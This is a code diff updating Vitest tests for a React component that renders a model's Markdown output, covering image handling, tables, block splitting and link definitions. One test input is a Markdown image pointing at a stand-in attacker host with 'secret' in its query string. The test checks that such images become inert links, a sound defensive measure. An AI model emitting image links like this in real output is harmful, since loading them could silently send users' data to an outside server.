@@ -1,11 +1,12 @@
 import { act } from "react";
 import { createRoot, type Root } from "react-dom/client";
-import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
 import { oneKindOfMaths, splitBlocks } from "./blocks";
-import { Markdown } from "./markdown";
+import { loadMarkdown, Markdown } from "./markdown";
 
 let place: HTMLElement;
 let root: Root;
+beforeAll(loadMarkdown);
 beforeEach(() => {
   vi.stubGlobal("IS_REACT_ACT_ENVIRONMENT", true);
   place = document.body.appendChild(document.createElement("div"));
@@ -54,7 +55,13 @@ describe("a model's text", () => {
   it("turns images into links, so that nothing is fetched by itself", async () => {
     const page = await show("![a cat](https://evil.example/?q=secret)");
     expect(page.querySelector("img")).toBeNull();
-    expect(page.textContent).toContain("Image: a cat");
+    expect(page.textContent).toContain("Image, not loaded: a cat");
+  });
+
+  it("has no heading where a table's corner is empty", async () => {
+    const page = await show("| | now |\n|---|---|\n| hiring | easy |");
+    expect([...page.querySelectorAll("th")].map((cell) => cell.textContent)).toEqual(["now"]);
+    expect(page.querySelector("thead td")).not.toBeNull();
   });
 
   it("keeps tables, with a box that scrolls", async () => {
@@ -112,14 +119,15 @@ describe("a text that is still being written", () => {
 describe("blocks", () => {
   it("split a long text, and together are the text", () => {
     const text = "# A\n\nb\n\n```js\n1\n\n2\n```\n\n- c\n- d\n\n> e\n";
-    const blocks = splitBlocks(text, false);
+    const blocks = splitBlocks(text).map((block) => block.text);
     expect(blocks.length).toBeGreaterThan(4);
-    expect(blocks.join("\n").replace(/\n+/g, "\n").trim()).toBe(text.replace(/\n+/g, "\n").trim());
+    const lines = (all: string) => all.replace(/\n+/g, "\n").trim();
+    expect(lines(blocks.join("\n"))).toBe(lines(text.replace(/```.*\n/g, "")));
   });
 
   it("keep link definitions with the blocks that use them", async () => {
     const page = await show("See [the site][s].\n\nMore.\n\n[s]: https://example.org");
-    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://example.org");
+    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://example.org/");
   });
 });
 
